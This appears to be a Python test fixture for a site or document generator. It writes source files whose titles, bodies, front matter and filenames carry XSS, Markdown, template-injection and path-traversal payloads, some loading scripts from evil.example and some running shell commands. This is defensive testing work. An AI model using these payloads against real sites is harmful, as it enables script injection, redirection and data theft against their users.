"""Texts by people who mean harm, written by us after the kinds that OWASP and html5sec collect: none may do anything.

Each of them, where it came alive, would set `window.hacked`, open a dialog, or ask for something at evil.example.
"""

from collections.abc import Mapping
from pathlib import Path

RUN = "window.hacked=1"
EVIL = "https://evil.example"

VECTORS: Mapping[str, tuple[str, ...]] = {
    "scripts": (
        f"<script>{RUN}</script>",
        f"</title></textarea></style></script><script>{RUN}</script>",
        f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        f"<script src={EVIL}/a.js></script>",
        f"<script\x00>{RUN}</script\x0b>",
        f"<ScRiPt/x>{RUN}</sCrIpT >",
        f"--><script>{RUN}</script><!--",
        f"]]></title><script>{RUN}</script>",
        f"<script type=module>import '{EVIL}/m.js'</script>",
    ),
    "events": (
        f'"><img src=x onerror="{RUN}">',
        f"<img/src='x'/onerror={RUN}>",
        f"<body onload={RUN}>",
        f"<input autofocus onfocus={RUN}>",
        f"<details open ontoggle={RUN}><summary>x</summary></details>",
        f"<video><source onerror={RUN}></video>",
        f"<p style=animation-name:x onanimationstart={RUN}>x</p>",
        f"' onmouseover='{RUN}' x='",
        f"` onclick=`{RUN}`",
    ),
    "addresses": (
        f"<a href=javascript:{RUN}>a</a>",
        f"[a](javascript:{RUN})",
        f"[a](JaVaScRiPt:{RUN})",
        f"[a](javascript&colon;{RUN})",
        f"[a](&#106;&#x61;vascript:{RUN})",
        f"[a](java\tscript:{RUN})",
        f"[a](\x01javascript:{RUN})",
        f"[a](<javascript:{RUN}>)",
        "[a](data:text/html;base64,PHNjcmlwdD5oYWNrZWQ9MTwvc2NyaXB0Pg== 'x')",
        f"[a](vbscript:{RUN})",
        f"<javascript:{RUN}>",
        f"[a][evil]\n\n[evil]: javascript:{RUN} 'x'",
        f"javascript:{RUN}",
        f"javascript://{EVIL}/%0a{RUN}",
        f"data:text/html,<script>{RUN}</script>",
    ),
    "foreign markup": (
        f"<svg onload={RUN}><a xlink:href='javascript:{RUN}'><text y=9>x</text></a></svg>",
        f"<svg><script href='data:text/javascript,{RUN}'/></svg>",
        f"<svg><animate onbegin={RUN} attributeName=x></svg>",
        f"<svg><foreignObject><iframe srcdoc='<script>parent.{RUN}</script>'></iframe></foreignObject></svg>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
        f"<math href=javascript:{RUN}>x</math>",
    ),
    "frames and metas": (
        f"<iframe src=javascript:{RUN}></iframe>",
        f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
        f"<object data=javascript:{RUN}></object><embed src={EVIL}/x.swf>",
        f'<meta http-equiv=refresh content="0;url={EVIL}/">',
        f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
        f"<base href={EVIL}/>",
        f"<form action={EVIL}/><input type=submit formaction=javascript:{RUN}></form>",
        f"<link rel=stylesheet href={EVIL}/a.css><link rel=prefetch href={EVIL}/b>",
        f"<template><script>{RUN}</script></template>",
        f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    ),
    "styles": (
        f"<style>@import '{EVIL}/a.css';*{{background:url({EVIL}/b)}}</style>",
        f'<div style="background:url({EVIL}/c);width:expression({RUN})">x</div>',
        f"<img src={EVIL}/pixel.gif>",
        f"![x]({EVIL}/pixel.gif)",
        f"![x](x\"onerror={RUN}// 'x')",
    ),
    "templates": (
        "{{ config.__class__.__init__.__globals__ }}",
        "{% raw %}{{ 7*7 }}{% include 'partials/gloss/head.html' %}",
        "${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('alert(1)')()}}",
        "{% import 'os' as os %}{{ os.system('touch /tmp/hacked') }}",
    ),
    "Markdown": (
        f"# x {{: onclick={RUN} }}",
        f"x\n{{: onmouseover={RUN} .evil }}",
        f"[x](http://a.example){{: onclick={RUN} }}",
        f"<div markdown onclick={RUN}>\n\nx\n\n</div>",
        f"x[^1]\n\n[^1]: <img src=x onerror={RUN}>",
        f"[x]: javascript:{RUN}\n\n[x] and [y][x]",
        f'[x]: ../people/jane-mudd.md "x\\" onmouseover={RUN} y=\\""',
        f"*[x]: <b onclick={RUN}>",
        f"!!! note onclick={RUN}\n    x",
        f"~~~ {{.x onclick={RUN}}}\nx\n~~~",
        f"<!-- annotations: -->\n[x]: javascript:{RUN}",
        f"| a |\n| - |\n| <img src=x onerror={RUN}> |",
        f"> <script>{RUN}</script>",
        f"    <script>{RUN}</script>",
        f"`<script>{RUN}</script>`",
        f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;script&#62;{RUN}&#60;/script&#62;",
        f"\\<script>{RUN}\\</script>",
        f'<https://a.example/"onmouseover={RUN}//>',
        f"<{EVIL}/><!--><script>{RUN}</script>-->",
    ),
    "odd characters": (
        f"\x00<script>\x00{RUN}</script>",
        f"\u202egpj.elif\u202c\u2066<b onclick={RUN}>\u2069",
        f"\ufeff\u200b<scri\u200bpt>{RUN}</scri\u200bpt>",
        f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
        f"\ud7ff\ufffe\uffff<script>{RUN}</script>",
        f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    ),
}
ALL = tuple(vector for group in VECTORS.values() for vector in group)
NAMES = (
    "..", "...", "..evil", "a\"><img src=x onerror=" + RUN + ">", "<script>" + RUN + "<", "'onclick='" + RUN, "{{ 7*7 }}",
    "-rf", "~root", "$(touch hacked)", "`touch hacked`", "a\nb", "a\tb", "CON", "nul", "%2e%2e%2fevil", "..\\..\\evil",
    "a\u202egpj", "\u2044etc\u2044passwd", "index", "javascript:" + RUN, "#x", "?x=1", "a&b", "é" * 60,
)  # fmt: skip
"""Names of files, without their suffix."""
PROSE = (
    "Jane Mudd met {} mayors in Ostrava on 3 May 2021, and told them that the old bridge over the river would be closed "
    "for repairs from the summer on, because nobody had looked after it for many years.\n\nThe mayors said that they had "
    "warned the council of it long ago, and that the people of the villages needed another way to the town."
)
FIELDS = ("title", "publisher", "author", "url", "rights", "language", "description", "date")


def quoted(text: str) -> str:
    """A text as YAML in double quotes, any character."""
    return (
        '"'
        + "".join(c if c.isascii() and c.isprintable() and c not in '"\\' else f"\\U{ord(c):08x}" for c in text)
        + '"'
    )


def collect(root: Path, *, every_format: bool = True) -> None:
    """A collection whose every text is one of these, wherever a stranger may put a text; else in one format each."""
    for folder in ("sources", "docs/people", "docs/places"):
        (root / folder).mkdir(parents=True, exist_ok=True)
    for number, vector in enumerate(ALL):
        fields = "".join(f"{name}: {quoted(vector)}\n" for name in FIELDS if name != "date")
        body = (
            f"{PROSE.format(number + 2)} {vector}\n\nThey spoke of {number + 2} bridges, and of the river below them.\n"
        )
        stem = f"sources/2021-05-{number % 28 + 1:02}-{number:03}"
        head = f"<meta property=og:title content={vector!r}><title>{vector}</title>"
        main = f"<article><h1>{vector}</h1><p>{body}</p><p>{vector}</p></article>"
        texts = {
            "md": f"---\n{fields}---\n# {vector}\n\n{body}",
            "txt": f"{vector}\n\n3 May 2021\n\n{body}",
            "html": f"<html><head>{head}</head><body>{main}</body></html>",
        }
        for place, (suffix, text) in enumerate(texts.items()):
            if every_format or number % len(texts) == place:
                (root / f"{stem}-{suffix}.{suffix}").write_bytes(text.encode("utf-8", "replace"))
    for number, stem in enumerate(NAMES):
        plain = f"Of bridge {number}\n\n3 May 2021\n\n{PROSE.format(number + 2)}\n"
        (root / "sources" / f"{stem}.txt").write_text(plain, "utf-8")
    everything = quoted(" ".join(ALL[:40]))
    person = f"title: {everything}\ndescription: {everything}\naliases: [Jane Mudd, {everything}]\nwikidata: {quoted(ALL[3])}\n"
    (root / "docs/people/jane-mudd.md").write_text(f"---\n{person}---\n# Jane Mudd\n", "utf-8")
    town = f"title: Ostrava\ndescription: {everything}\ncountry: {quoted(ALL[9])}\ncoordinates: [49.8, 18.3]\n"
    (root / "docs/places/ostrava.md").write_text(f"---\n{town}---\n# Ostrava\n", "utf-8")
    for number, vector in enumerate(
        (f'x"><script>{RUN}</script>', f"javascript:{RUN}//", f"{EVIL}/", "../../..", "//evil.example/")
    ):
        lead = f"---\ntitle: Leads on\nredirect: {quoted(vector)}\n---\n# Leads on\n"
        (root / f"docs/people/leads-on-{number}.md").write_text(lead, "utf-8")
    for number, name in enumerate((f'x" onmouseover="{RUN}" y="', f"<img src=x onerror={RUN}>", f"javascript:{RUN}")):
        page_text = f"---\ntitle: Named badly {number}\n---\n# Named badly {number}\n"
        (root / f"docs/people/{name}.md").write_text(page_text, "utf-8")
